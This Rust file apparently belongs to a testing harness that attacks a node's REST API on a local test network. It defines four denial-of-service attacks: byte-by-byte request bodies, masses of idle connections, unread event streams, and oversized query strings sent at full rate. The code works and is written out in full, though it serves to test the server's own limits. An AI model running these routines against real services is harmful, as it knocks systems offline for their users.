//! Attacks d1 to d4: programs that abuse the REST API.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use futures::FutureExt as _;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::sleep;
use undertone_node::raise_files_limit;

use super::{Attack, Price, c4_unread_pushes, nothing, with_services};
use crate::test_network::prefix;
use crate::{HostileError, Tasks, TestNetwork};

/// Connections that send a request's body byte by byte: more than the server's limit of 128.
const SLOW: usize = 300;
/// Number of connections without a request, and number opened per millisecond.
const IDLE: usize = 2_000;
/// Event streams that are not read: fewer than the server's limit of 1,024, so that others find a place.
const UNREAD: usize = 800;
/// Connections that send long queries at full rate.
const QUERIES: usize = 16;
/// Length of a query: as much as the server accepts as a request's head.
const QUERY_BYTES: usize = 60_000;
/// Number of consecutive requests per connection, enough for ten minutes.
const REQUESTS_MAX: u32 = 100_000;
/// Duration of the attack before messages are counted.
const RISING: Duration = Duration::from_secs(4);

/// Attack d1: bodies that arrive byte by byte.
pub const SLOW_BODIES: Attack = Attack {
    name: "d1-slow-bodies",
    about: "300 connections that send the body of a message a byte a second",
    price: Price::Nothing,
    options: with_services,
    start: |stage| begin(stage, SLOW, slow_body).boxed(),
    then: nothing,
};

/// Attack d2: connections without a request.
pub const IDLE_CONNECTIONS: Attack = Attack {
    name: "d2-idle-connections",
    about: "2000 connections to the REST API without a request, opened again when closed",
    price: Price::Nothing,
    options: with_services,
    start: |stage| begin(stage, IDLE, idle).boxed(),
    then: nothing,
};

/// Attack d3: event streams that are not read.
pub const UNREAD_EVENTS: Attack = Attack {
    name: "d3-unread-events",
    about: "800 event streams that are not read, while messages of 60 kB come",
    price: Price::Nothing,
    options: with_services,
    start: |stage| {
        async {
            let mut tasks = begin(stage, UNREAD, unread).await?;
            let topic = format!("{}/unread/proto", prefix(0));
            let from = std::net::Ipv4Addr::new(127, 0, 28, 1);
            tasks.spawn(c4_unread_pushes::publish(
                from,
                stage.victim.target(),
                topic,
            ));
            sleep(RISING).await;
            Ok(tasks)
        }
        .boxed()
    },
    then: nothing,
};

/// Attack d4: long queries.
pub const LONG_QUERIES: Attack = Attack {
    name: "d4-long-queries",
    about: "16 connections with queries of 60 kB at full rate, of events, history and subscriptions",
    price: Price::Nothing,
    options: with_services,
    start: |stage| begin(stage, QUERIES, long_queries).boxed(),
    then: nothing,
};

/// Starts `count` tasks, each of which opens one connection after another.
async fn begin<F>(
    stage: &mut TestNetwork,
    count: usize,
    attack: fn(SocketAddr) -> F,
) -> Result<Tasks, HostileError>
where
    F: Future<Output = io::Result<()>> + Send + 'static,
{
    raise_files_limit();
    let rest = stage.victim.rest();
    let mut tasks = Tasks::default();
    for n in 0..count {
        tasks.spawn(async move {
            sleep(Duration::from_millis(n as u64)).await;
            for _ in 0..REQUESTS_MAX {
                if attack(rest).await.is_err() {
                    sleep(Duration::from_millis(200)).await;
                }
            }
        });
    }
    sleep(RISING).await;
    Ok(tasks)
}

async fn slow_body(rest: SocketAddr) -> io::Result<()> {
    let mut stream = TcpStream::connect(rest).await?;
    let head = format!(
        "POST /relay/v1/auto/messages HTTP/1.1\r\nHost: {rest}\r\nContent-Type: application/json\r\n\
         Content-Length: 100000\r\n\r\n"
    );
    stream.write_all(head.as_bytes()).await?;
    loop {
        sleep(Duration::from_secs(1)).await;
        stream.write_all(b" ").await?;
    }
}

async fn idle(rest: SocketAddr) -> io::Result<()> {
    let mut stream = TcpStream::connect(rest).await?;
    let mut byte = [0];
    while stream.read(&mut byte).await? > 0 {}
    Ok(())
}

async fn unread(rest: SocketAddr) -> io::Result<()> {
    let socket = TcpSocket::new_v4()?;
    // A small buffer, so that the victim's side fills up soon.
    socket.set_recv_buffer_size(4_096)?;
    let mut stream = socket.connect(rest).await?;
    let head = format!("GET /events/v1/messages HTTP/1.1\r\nHost: {rest}\r\n\r\n");
    stream.write_all(head.as_bytes()).await?;
    // The victim ends the stream after a minute or two.
    sleep(Duration::from_secs(30)).await;
    stream.write_all(b"\r\n").await
}

async fn long_queries(rest: SocketAddr) -> io::Result<()> {
    let list = |each: &str| each.repeat(QUERY_BYTES / each.len());
    for path in [
        format!("/events/v1/messages?contentTopics={}", list("a,")),
        format!(
            "/store/v3/messages?contentTopics={}",
            list("%2Fa%2F1%2Fb%2Fc,")
        ),
        format!("/store/v3/messages?hashes={}", list("0x1234,")),
        format!("/relay/v1/messages/{}", list("%25")),
        format!("/{}", list("a/")),
    ] {
        let mut stream = TcpStream::connect(rest).await?;
        let head = format!("GET {path} HTTP/1.1\r\nHost: {rest}\r\nConnection: close\r\n\r\n");
        stream.write_all(head.as_bytes()).await?;
        let mut answer = [0; 4_096];
        let _ = stream.read(&mut answer).await?;
    }
    Ok(())
}
